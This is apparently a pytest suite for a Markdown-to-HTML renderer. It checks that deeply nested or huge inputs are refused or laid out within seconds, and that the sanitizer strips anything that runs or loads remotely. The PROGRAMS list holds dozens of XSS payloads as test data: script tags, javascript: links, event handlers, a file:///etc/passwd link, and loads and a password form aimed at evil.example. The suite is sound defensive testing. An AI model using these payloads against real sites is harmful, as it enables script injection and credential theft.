"""Texts that bring renderers down: each is laid out or refused, in seconds, and none reaches a page as a program."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from annai.rendering import Body, TooDeepError, render_body

LEVELS = 10_000
# Too deep or too slow to lay out.
REFUSED = {
    "quotes": ">" * LEVELS + " x",
    "spaced quotes": "> " * LEVELS + "x",
    "bullets on one line": "- " * LEVELS + "x",
    "bullets, each deeper": "\n".join("    " * depth + "- x" for depth in range(700)),
    "numbers": "1. " * LEVELS + "x",
    "open brackets": "[" * LEVELS,
    "closed brackets": "[" * LEVELS + "x" + "]" * LEVELS,
    "open links": "[a](" * LEVELS,
    "open pictures": "![" * LEVELS,
    "boxes of Markdown": '<div markdown="1">\n' * 1000 + "x\n" + "</div>\n" * 1000,
    "sections of XML": "<![CDATA[" * LEVELS,
    "emphasis": "*" * LEVELS + "x" + "*" * LEVELS,
}
# Long, and laid out all the same.
LAID_OUT = {
    "boxes": "<div>" * LEVELS + "x" + "</div>" * LEVELS,
    "boxes that never close": "<div>" * LEVELS + "x",
    "boxes on lines of their own": "<div>\n" * LEVELS + "x\n" + "</div>\n" * LEVELS,
    "links in links": "<a href=x>" * LEVELS + "x",
    "tables in tables": "<table><tr><td>" * 3000 + "x",
    "fences": "```\n" * 9999,
    "backticks": "`" * LEVELS,
    "emphasis that never ends": "*a **b " * LEVELS,
    "comments in comments": "<!--" * LEVELS,
    "angles": "<" * LEVELS,
    "headings": "\n\n".join(f"## 見出し{number}" for number in range(5000)),
    "a long table": "|" + "a|" * 9 + "\n|" + "-|" * 9 + "\n" + ("|" + "x|" * 9 + "\n") * 3000,
    "a wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n|" + "x|" * 2000,
    "a long line": "あ" * 500_000,
    "a long word": "a" * 1_000_000,
    "empty lines": "\n" * 1_000_000,
    "boxes of tasks": "- [ ] x\n" * 5000,
    "footnotes": "\n".join(f"[^{number}]: x [^{number + 1}]" for number in range(1000)),
    "a footnote that refers to itself": "a[^1]\n\n[^1]: b[^1]",
    "no word": "",
    "spaces": " \n\t\n",
    "zero bytes": "a\0b",
    "marks of our own": "\ue0000\ue001 [a](\ue0000\ue001) \ue000",
}


def laid_out(markdown: str) -> Body | None:
    """The body, None where it is refused."""
    try:
        return render_body(markdown, "題")
    except TooDeepError:
        return None


def html_of(markdown: str) -> str:
    """A body's HTML with its links as they were written."""
    body = laid_out(markdown)
    assert body is not None
    parts = [body.parts[0]]
    for reference, rest in zip(body.references, body.parts[1:], strict=True):
        parts += [f'{reference.kind}="{reference.target}"', rest]
    return "".join(parts)


@pytest.mark.parametrize("way", REFUSED)
def test_what_is_too_deep_is_refused_in_seconds(way: str):
    started = time.process_time()
    assert laid_out(REFUSED[way]) is None
    assert time.process_time() - started < 10


@pytest.mark.parametrize("way", LAID_OUT)
def test_what_is_only_long_is_laid_out_in_seconds(way: str):
    started = time.process_time()
    assert laid_out(LAID_OUT[way]) is not None
    assert time.process_time() - started < 10


def test_what_is_refused_leaves_nothing_behind():
    before = html_of("# 題\n\n[^1]\n\n[^1]: 注\n")
    for text in REFUSED.values():
        laid_out(text)
    assert html_of("# 題\n\n[^1]\n\n[^1]: 注\n") == before


def test_every_heading_of_thousands_has_an_anchor_of_its_own():
    body = laid_out("\n\n".join("## 同じ見出し" for _ in range(2000)))
    assert body is not None
    assert len({heading.anchor for heading in body.headings}) == 2000


# What a browser would run, load or be led to.
PROGRAMS = [
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<style>body{display:none}</style>",
    "<style>@import url(//evil.example)</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<video src=//evil.example/v.mp4 autoplay></video>",
    "<audio><source src=//evil.example/a.mp3></audio>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif>",
    "<img srcset='//evil.example/p.png 2x'>",
    "<picture><source srcset=//evil.example/p.png><img src=a.png></picture>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><use href='//evil.example/x.svg#a'/></svg>",
    "<math><maction actiontype='statusline#//evil.example'>x</maction></math>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\nscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x style='position:fixed' onclick=alert(1) target=_blank ping=//evil.example>x</a>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<table background=//evil.example><tr><td>x</table>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input type=image src=//evil.example>",
    "<textarea autofocus onfocus=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/png;base64,AAAA)",
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "text{: onclick=alert(1) style='x' }",
    "# x {onclick=alert(1)}",
    "[x](a.md){: target=_blank onclick=alert(1) }",
    "```{onclick=alert(1) .python}\nx\n```",
    '<div markdown="1"><script>alert(1)</script></div>',
    "/// details | <script>alert(1)</script>\nx\n///",
    '!!! note "<script>alert(1)</script>"\n    x',
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "[^1]\n\n[^1]: <script>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img alt='`' src=x onerror=alert(1)//`'>",
]
RUNS = (
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "video",
    "audio",
    "source",
    "svg",
    "math",
    "link",
    "meta",
    "base",
)


@pytest.mark.parametrize("text", PROGRAMS)
def test_nothing_that_runs_or_loads_from_elsewhere_is_left(text: str):
    tree = LexborHTMLParser(f"<body>{html_of(text)}</body>")
    nodes = [node for node in tree.css("body *") if node.tag]
    assert [
        node.tag for node in nodes if node.tag in {*RUNS, "form", "button", "template", "textarea", "noscript"}
    ] == []
    for node in nodes:
        names = set(node.attributes)
        assert not [name for name in names if name.startswith("on") or name in {"style", "srcset", "ping", "target"}]
        assert node.tag != "input" or node.attributes.get("type") == "checkbox"
        for name in ("href", "src"):
            address = re.sub(r"[\s\0]", "", node.attributes.get(name) or "").lower()
            assert not re.match(r"(javascript|vbscript|data|file):", address), node.html
            assert name != "src" or not re.match(r"[a-z]+:|//", address), node.html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        # A picture or a film that another host has becomes a link to it: readers see that it is there.
        ("![棚](https://cdn.example/p.png)", ("https://cdn.example/p.png", "棚")),
        ("![](//cdn.example/p.png)", ("https://cdn.example/p.png", "p.png")),
        (
            "<iframe src='https://video.example/1' title='手順の動画'></iframe>",
            ("https://video.example/1", "手順の動画"),
        ),
        (
            "<video src='https://video.example/2.mp4'></video>",
            ("https://video.example/2.mp4", "https://video.example/2.mp4"),
        ),
    ],
)
def test_what_another_host_would_show_is_a_link_to_it(text: str, shown: tuple[str, str]):
    body = laid_out(text)
    assert body is not None
    assert [reference.target for reference in body.references] == [shown[0]]
    assert shown[1] in html_of(text)
    assert body.hosts


WORDS = st.sampled_from(
    [
        *(
            "a",
            "あ",
            " ",
            "\n",
            "\n\n",
            "    ",
            "\t",
            "# ",
            "## ",
            "- ",
            "1. ",
            "> ",
            "* ",
            "*",
            "**",
            "_",
            "`",
            "```\n",
            "~~~\n",
            "|",
        ),
        *(
            "---\n",
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "</",
            "<div>",
            "</div>",
            '<div markdown="1">',
            "<b>",
            "<a href=",
            '"',
            "'",
        ),
        *(
            "<!--",
            "-->",
            "<![CDATA[",
            "<?",
            "&",
            "&lt;",
            "&#0;",
            "[^1]",
            "[^1]:",
            "*[a]:",
            "{: ",
            "{#x}",
            "}",
            "/// note",
            "///",
        ),
        *(
            "!!! note\n",
            "- [ ] ",
            ": ",
            "\\",
            "http://a.example",
            "a@b.example",
            "\0",
            "\x0b",
            "\u2028",
            "\ue000",
            "\ue001",
            "😀",
        ),
        *(
            "\ud7ff",
            "\u202e",
            "<script>",
            "<style>",
            "<table>",
            "<tr>",
            "<svg>",
            "<p>",
            "<li>",
            "<br>",
            "<img src=x>",
            "|-|-|\n",
        ),
    ]
)


@settings(max_examples=250, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(WORDS, max_size=30).map("".join))
def test_no_markdown_stops_the_renderer(text: str):
    body = laid_out(text)
    if body is not None:
        assert len(body.parts) == len(body.references) + 1
        assert not any("\ue000" in part or "\ue001" in part for part in body.parts)


@settings(max_examples=150)
@given(st.text(max_size=200))
def test_no_text_stops_the_renderer(text: str):
    body = laid_out(text)
    assert body is not None
    assert len(body.parts) == len(body.references) + 1
